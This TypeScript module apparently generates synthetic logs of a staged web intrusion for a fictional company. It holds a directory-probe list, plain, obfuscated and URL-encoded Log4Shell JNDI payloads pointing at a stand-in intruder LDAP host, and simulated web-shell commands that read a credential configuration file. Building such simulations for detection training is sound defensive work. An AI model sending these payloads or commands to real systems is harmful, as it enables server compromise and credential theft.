import type { Company } from './company';
import { createFoothold } from './foothold';
import { hostNamed } from './hosts';
import { createRandom } from './random';
import { day, type Emit, minute, second } from './row';
import { webRequest } from './rows/web-request';
import { intruder, type StoryClock, victims } from './story';
import { tracking, trackingServer } from './tracking-server';

const guesses =
  'admin api backup config console cgi-bin actuator manager solr struts jenkins phpmyadmin login old test dev upload shell status.php .git/config'.split(
    ' ',
  );
const lookup = `ldap://${intruder.lookupAddress}:1389/q`;

/** A second way in: what the tracking application writes to its log it also looks up, and runs. */
export function intrusionThroughWeb(company: Company, clock: StoryClock, emit: Emit): void {
  const random = createRandom(company.seed, 'intrusion through the web');
  const web = hostNamed(company.hosts, victims.webServer);
  const target = createFoothold(hostNamed(company.hosts, tracking.host), random, emit);
  const at = clock.at('lookup');
  const { java } = trackingServer(company, Math.floor(at / day) * day);
  const ask = (time: number, request: string, status: number, agent = 'Mozilla/5.0') =>
    emit('Syslog', time, webRequest(web, { address: intruder.probeAddress, request, status, agent }));

  let scanned = clock.at('page-scan');
  for (const name of guesses)
    for (const prefix of ['/', '/track/', '/portal/']) {
      scanned += random.int(1, 4) * second;
      ask(scanned, `GET ${prefix}${name}`, random.chance(0.05) ? 403 : 404);
    }

  ask(at, `GET /track/status?id=$\{jndi:${lookup}}`, 200);
  ask(at + 50 * second, 'GET /track/status?id=FH40001', 200, `$\{$\{lower:j}ndi:$\{lower:l}dap${lookup.slice(4)}}`);
  ask(at + 95 * second, `GET /track/status?id=%24%7Bjndi%3A${encodeURIComponent(lookup)}%7D`, 200);
  for (const delay of [1, 51, 96]) target.connect(java, at + delay * second, intruder.lookupAddress, 1389);
  target.connect(java, at + 53 * second, intruder.lookupAddress, 8000);
  const run = (time: number, command: string) =>
    target.start(java, { file: 'cmd.exe', at: time, commandLine: `cmd.exe /c ${command}` });
  run(at + 55 * second, 'whoami');
  run(at + 99 * second, `dir ${tracking.pages}`);

  const page = clock.at('web-shell');
  target.change(java, page, {
    action: 'FileCreated',
    folder: `${tracking.pages}\\img`,
    file: 'help.jsp',
    size: 1_184,
  });
  const commands = ['ipconfig /all', 'tasklist', 'type D:\\App\\config\\connection.ini', 'net use'];
  for (const [index, command] of commands.entries()) {
    const time = page + (2 + index * 3) * minute;
    ask(time, 'POST /track/img/help.jsp', 200);
    run(time + second, command);
  }
  for (const delay of [16, 31, 58]) ask(page + delay * minute, 'GET /track/img/help.jsp', 200);
}
